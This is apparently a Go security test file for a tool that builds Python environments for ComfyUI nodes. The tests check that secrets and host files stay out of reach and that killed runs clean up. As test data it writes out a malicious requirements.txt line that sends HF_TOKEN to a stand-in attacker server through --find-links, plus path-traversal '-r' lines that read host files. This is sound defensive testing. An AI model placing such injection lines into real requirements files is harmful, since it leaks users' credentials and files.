package main

import (
	"bufio"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"github.com/comfy-image/comfy-image/internal/testsupport"
)

// sentinel is the secret every test here sets in HF_TOKEN; it must reach
// no child process, no server and no output.
var sentinel = testsupport.Secret()

// countingServer records every request it gets (an attacker's host).
func countingServer(t *testing.T) (*httptest.Server, *atomic.Int64) {
	var n atomic.Int64
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		n.Add(1)
		t.Logf("attacker's server got %s", r.URL.Path)
		http.NotFound(w, r)
	}))
	t.Cleanup(srv.Close)
	return srv, &n
}

// A node's requirements.txt cannot send HF_TOKEN anywhere: pip never sees
// the line, the run fails naming the node, the file and the line, and says
// how to allow an index.
func TestNodeRequirementsCannotSendSecrets(t *testing.T) {
	s := newSite(t)
	evil, hits := countingServer(t)
	s.writeSpec(t, s.addNode(t, "Evil", "alpha\n--find-links "+evil.URL+"/steal/${HF_TOKEN}/\n"), "")
	if res := testsupport.Run(t, s.dir, s.env(), "lock", "--version-id", "demo"); res.Code != 0 {
		t.Fatal(res.Stderr)
	}
	res := testsupport.Run(t, s.dir, s.env("HF_TOKEN="+sentinel), "realize", "--version-id", "demo",
		"--target", filepath.Join(s.dir, "target"), "--wheels-dir", s.wheels, "--offline", "--skip-models")
	if hits.Load() != 0 {
		t.Fatalf("the attacker's server got %d requests", hits.Load())
	}
	if res.Code != 2 {
		t.Fatalf("exit %d, want 2\n%s", res.Code, res.Stderr)
	}
	for _, want := range []string{"node Evil", "requirements.txt", "line 2", "python.index_urls"} {
		if !strings.Contains(res.Stderr, want) {
			t.Errorf("stderr lacks %q:\n%s", want, res.Stderr)
		}
	}
	if strings.Contains(res.Stdout+res.Stderr, sentinel) {
		t.Errorf("the secret is in the output")
	}
}

// Requirements files cannot read host files: neither -r with an absolute
// or escaping path, nor a requirements.txt that is a symlink.
func TestRequirementsCannotReadHostFiles(t *testing.T) {
	host := filepath.Join(testsupport.TempDir(t), "host-secret.txt")
	os.WriteFile(host, []byte("secret-host-content\n"), 0o644)
	for name, reqs := range map[string]string{
		"Abs":    "alpha\n-r " + host + "\n",
		"Escape": "alpha\n-r ../../../../../../../../.." + host + "\n",
		"Long":   "alpha\n--requirement=" + host + "\n",
	} {
		t.Run(name, func(t *testing.T) {
			s := newSite(t)
			s.writeSpec(t, s.addNode(t, "Reader"+name, reqs), "")
			res := s.realize(t, filepath.Join(s.dir, "target"), "--skip-models")
			if res.Code != 2 || !strings.Contains(res.Stderr, "node Reader"+name) || !strings.Contains(res.Stderr, "line 2") {
				t.Fatalf("exit %d, want 2 naming the node and line 2\n%s", res.Code, res.Stderr)
			}
			if strings.Contains(res.Stdout+res.Stderr, "secret-host-content") {
				t.Fatal("the host file's content is in the output")
			}
		})
	}
	t.Run("Symlink", func(t *testing.T) {
		s := newSite(t)
		r := s.srv.NewRepo(t, "someone/Linked")
		r.Commit("init", map[string]string{"__init__.py": "NODE_CLASS_MAPPINGS = {}\n"})
		if err := os.Symlink(host, filepath.Join(r.Dir, "requirements.txt")); err != nil {
			t.Fatal(err)
		}
		r.Git("add", "requirements.txt")
		r.Git("commit", "-q", "-m", "link")
		s.writeSpec(t, fmt.Sprintf(`, {"repo": %q}`, s.srv.RepoURL("someone/Linked")), "")
		res := s.realize(t, filepath.Join(s.dir, "target"), "--skip-models")
		if res.Code != 2 || !strings.Contains(res.Stderr, "node Linked") || !strings.Contains(res.Stderr, "symlink") {
			t.Fatalf("exit %d, want 2 naming the node and the symlink\n%s", res.Code, res.Stderr)
		}
		if strings.Contains(res.Stdout+res.Stderr, "secret-host-content") {
			t.Fatal("the host file's content is in the output")
		}
	})
}

// spyPython writes a python3 wrapper that records its environment into dir
// (one file per run) before running the real python3.
func spyPython(t *testing.T, dir, extra string) string {
	t.Helper()
	py, err := exec.LookPath("python3")
	if err != nil {
		t.Fatal(err)
	}
	spy := filepath.Join(dir, "spy-python3")
	script := fmt.Sprintf("#!/bin/sh\nenv > %q/env.$$\n%sexec %q \"$@\"\n", dir, extra, py)
	if err := os.WriteFile(spy, []byte(script), 0o755); err != nil {
		t.Fatal(err)
	}
	return spy
}

// The child processes realize starts (python -m venv, pip) get no secret
// from the caller's environment and a HOME of their own.
func TestChildProcessesGetNoSecrets(t *testing.T) {
	s := newSite(t)
	spyDir := testsupport.TempDir(t)
	spy := spyPython(t, spyDir, "")
	s.writeSpec(t, "", `"python": {"system_site_packages": true},`)
	res := testsupport.Run(t, s.dir, s.env("HF_TOKEN="+sentinel, "CIVITAI_API_TOKEN="+sentinel, "MY_REGISTRY_PASSWORD="+sentinel),
		"realize", "--version-id", "demo", "--target", filepath.Join(s.dir, "target"), "--wheels-dir", s.wheels, "--skip-models", "--python", spy)
	if res.Code != 0 {
		t.Fatalf("exit %d\n%s", res.Code, res.Stderr)
	}
	dumps, _ := filepath.Glob(filepath.Join(spyDir, "env.*"))
	if len(dumps) == 0 {
		t.Fatal("the spy python never ran")
	}
	home, _ := os.UserHomeDir()
	for _, d := range dumps {
		data, _ := os.ReadFile(d)
		env := string(data)
		if strings.Contains(env, sentinel) {
			t.Errorf("%s: a child got the secret:\n%s", d, env)
		}
		if home != "" && strings.Contains(env, "HOME="+home+"\n") {
			t.Errorf("%s: a child got the caller's HOME", d)
		}
		if !strings.Contains(env, "PATH=") {
			t.Errorf("%s: no PATH", d)
		}
	}
}

// A realize killed while `python -m venv` runs leaves no half venv that a
// later run trusts: the rerun builds a venv with pip and installs.
func TestKilledVenvCreationRecovers(t *testing.T) {
	s := newSite(t)
	spyDir := testsupport.TempDir(t)
	fifo := filepath.Join(spyDir, "started")
	if err := syscall.Mkfifo(fifo, 0o600); err != nil {
		t.Fatal(err)
	}
	// The stand-in lays out what `python -m venv` writes before ensurepip
	// (pyvenv.cfg, bin/python), says so, and hangs like a slow ensurepip.
	py, _ := exec.LookPath("python3")
	half := fmt.Sprintf("for a; do dir=$a; done\nmkdir -p \"$dir/bin\"\necho 'home = /usr/bin' > \"$dir/pyvenv.cfg\"\nln -sf %q \"$dir/bin/python\"\necho started > %q\nexec %q -c 'import time; time.sleep(600)' %q\n", py, fifo, py, spyDir)
	spy := spyPython(t, spyDir, half)
	target := filepath.Join(s.dir, "target")
	p := testsupport.Start(t, s.dir, s.env(), "realize", "--version-id", "demo", "--target", target, "--wheels-dir", s.wheels, "--skip-models", "--python", spy)
	f, err := os.Open(fifo) // blocks until the stand-in runs
	if err != nil {
		t.Fatal(err)
	}
	bufio.NewReader(f).ReadString('\n')
	f.Close()
	p.Cmd.Process.Signal(syscall.SIGKILL)
	p.Cmd.Wait()
	waitNoProcessNaming(t, spyDir)
	res := s.realize(t, target, "--skip-models")
	if res.Code != 0 {
		t.Fatalf("rerun after the kill: exit %d\n%s", res.Code, res.Stderr)
	}
	out, err := exec.Command(filepath.Join(target, ".venv", "bin", "python"), "-c", "import alpha, beta, gamma, pip").CombinedOutput()
	if err != nil {
		t.Fatalf("venv after the rerun: %v\n%s", err, out)
	}
}

// No child outlives the tool: SIGKILL of realize while pip waits on a
// package index leaves no process behind.
func TestKilledRealizeLeavesNoChild(t *testing.T) {
	s := newSite(t)
	reached := make(chan struct{}, 1)
	release := make(chan struct{})
	index := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		select {
		case reached <- struct{}{}:
		default:
		}
		select { // hang like a dead index until the test ends
		case <-release:
		case <-r.Context().Done():
		}
	}))
	t.Cleanup(index.Close)
	t.Cleanup(func() { close(release) })
	s.writeSpec(t, "", fmt.Sprintf(`"python": {"index_urls": [%q]},`, index.URL+"/simple"))
	target := filepath.Join(s.dir, "target")
	p := testsupport.Start(t, s.dir, s.env(), "realize", "--version-id", "demo", "--target", target, "--skip-models")
	<-reached
	if n := processesNaming(t, target); n == 0 {
		t.Fatal("pip is not running while the index is asked")
	}
	p.Cmd.Process.Signal(syscall.SIGKILL)
	p.Cmd.Wait()
	waitNoProcessNaming(t, target)
}

// processesNaming counts the processes whose command line holds s.
func processesNaming(t *testing.T, s string) int {
	entries, _ := os.ReadDir("/proc")
	n := 0
	for _, e := range entries {
		if e.Name()[0] < '0' || e.Name()[0] > '9' {
			continue
		}
		data, err := os.ReadFile(filepath.Join("/proc", e.Name(), "cmdline"))
		if err == nil && strings.Contains(string(data), s) {
			stat, _ := os.ReadFile(filepath.Join("/proc", e.Name(), "stat"))
			if strings.Contains(string(stat), ") Z ") { // a zombie is already dead
				continue
			}
			n++
		}
	}
	return n
}

// waitNoProcessNaming waits until the kernel has delivered the death
// signals: a left-over child is still there after the bound.
func waitNoProcessNaming(t *testing.T, s string) {
	t.Helper()
	for i := 0; i < 100; i++ {
		if processesNaming(t, s) == 0 {
			return
		}
		time.Sleep(50 * time.Millisecond)
	}
	t.Fatalf("%d processes naming %s outlived the tool", processesNaming(t, s), s)
}
